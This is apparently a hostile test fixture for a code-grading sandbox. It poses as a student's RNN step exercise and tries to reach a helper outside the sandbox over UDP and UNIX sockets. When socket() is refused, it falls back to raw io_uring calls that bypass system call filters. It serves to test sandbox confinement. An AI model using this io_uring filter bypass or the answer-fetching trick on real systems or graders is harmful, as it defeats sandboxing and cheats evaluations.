/* An attack on the boundary, armed by tests/grade_hostile.sh: it asks a helper outside the
 * sandbox for the answers (a classmate's program, a copy of gradlab), sending its inputs with
 * the test's marker over UDP to 127.0.0.1 port @PORT@, and over the named UNIX sockets
 * @SOCKET@ (stream) and @SOCKET@-dgram (datagram), as a session bus or a helper's socket
 * would be reached; where socket() is refused, through io_uring's own socket, connect and
 * send, which no system call filter sees. A helper that answered would hand it the points;
 * the test's helper only counts what arrives.
 * exercise: rnn_step
 * expect: wrong values
 * must not: reach any process outside the sandbox
 */
/* @ARM@ */
#define _GNU_SOURCE
#include "gradlab_exercise.h"

#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#ifdef GRADLAB_ATTACK_ARMED
/* {==== io_uring, without liburing: one request at a time ==== */
static struct {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
} ring = { .fd = -1 };

static int ring_open(void)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	ring.fd = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (ring.fd < 0)
		return 0;
	char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned),
			PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd, IORING_OFF_SQ_RING);
	char *cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
			PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd, IORING_OFF_CQ_RING);
	void *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
			  MAP_SHARED | MAP_POPULATE, ring.fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		return 0;
	ring.sq_tail = (unsigned *)(sq + p.sq_off.tail);
	ring.sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	ring.sq_array = (unsigned *)(sq + p.sq_off.array);
	ring.cq_head = (unsigned *)(cq + p.cq_off.head);
	ring.cq_tail = (unsigned *)(cq + p.cq_off.tail);
	ring.cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	ring.cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	ring.sqes = sqes;
	return 1;
}

/* Submit e, wait for its completion: its result (a descriptor, a count, or -errno). */
static int ring_do(const struct io_uring_sqe *e)
{
	unsigned tail = *ring.sq_tail, i = tail & *ring.sq_mask;
	ring.sqes[i] = *e;
	ring.sq_array[i] = i;
	__atomic_store_n(ring.sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, ring.fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -1;
	unsigned head = __atomic_load_n(ring.cq_head, __ATOMIC_ACQUIRE);
	if (head == __atomic_load_n(ring.cq_tail, __ATOMIC_ACQUIRE))
		return -1;
	int res = ring.cqes[head & *ring.cq_mask].res;
	__atomic_store_n(ring.cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

/* A socket of domain and type, connected to addr, made by io_uring; -1 when refused. */
static int ring_connected(int domain, int type, const void *addr, unsigned len)
{
	if (ring.fd < 0 && !ring_open())
		return -1;
	struct io_uring_sqe e;
	memset(&e, 0, sizeof e);
	e.opcode = IORING_OP_SOCKET;
	e.fd = domain;
	e.off = (unsigned)type;
	int s = ring_do(&e);
	if (s < 0)
		return -1;
	memset(&e, 0, sizeof e);
	e.opcode = IORING_OP_CONNECT;
	e.fd = s;
	e.addr = (unsigned long)addr;
	e.off = len;
	if (ring_do(&e) < 0) {
		close(s);
		return -1;
	}
	return s;
}
/* }==== */

/* Send msg on a socket of domain and type to addr: by socket(), else by io_uring. */
static const char *deliver(int domain, int type, const void *addr, unsigned alen, const char *msg,
			   int len)
{
	int s = socket(domain, type, 0);
	if (s >= 0) {
		int ok = connect(s, addr, alen) == 0 && write(s, msg, (size_t)len) == len;
		close(s);
		return ok ? "sent" : "refused";
	}
	s = ring_connected(domain, type, addr, alen);
	if (s < 0)
		return "refused (socket and io_uring)";
	struct io_uring_sqe e;
	memset(&e, 0, sizeof e);
	e.opcode = IORING_OP_SEND;
	e.fd = s;
	e.addr = (unsigned long)msg;
	e.len = (unsigned)len;
	int n = ring_do(&e);
	close(s);
	return n == len ? "sent through io_uring" : "refused (io_uring)";
}

static void ask(const double *x, int n)
{
	char msg[512];
	int len = snprintf(msg, sizeof msg, "@MARK@ x[0]=%.17g n=%d\n", n > 0 ? x[0] : 0.0, n);
	struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons(@PORT@) };
	inet_pton(AF_INET, "127.0.0.1", &in.sin_addr);
	printf("attack: UDP: %s\n", deliver(AF_INET, SOCK_DGRAM, &in, sizeof in, msg, len));
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	snprintf(un.sun_path, sizeof un.sun_path, "%s", "@SOCKET@");
	printf("attack: UNIX stream: %s\n", deliver(AF_UNIX, SOCK_STREAM, &un, sizeof un, msg, len));
	snprintf(un.sun_path, sizeof un.sun_path, "%s-dgram", "@SOCKET@");
	printf("attack: UNIX datagram: %s\n", deliver(AF_UNIX, SOCK_DGRAM, &un, sizeof un, msg, len));
	fflush(stdout);
}
#endif

void rnn_step_forward(double *h_next, const double *x, const double *h_prev, const double *W_ih,
		      const double *W_hh, const double *b_ih, const double *b_hh, int B, int I,
		      int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	ask(x, B * I);
#endif
}

void rnn_step_backward(double *dx, double *dh_prev, double *dW_ih, double *dW_hh, double *db_ih,
		       double *db_hh, const double *dh_next, const double *x,
		       const double *h_prev, const double *h_next, const double *W_ih,
		       const double *W_hh, int B, int I, int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	ask(x, B * I);
#endif
}
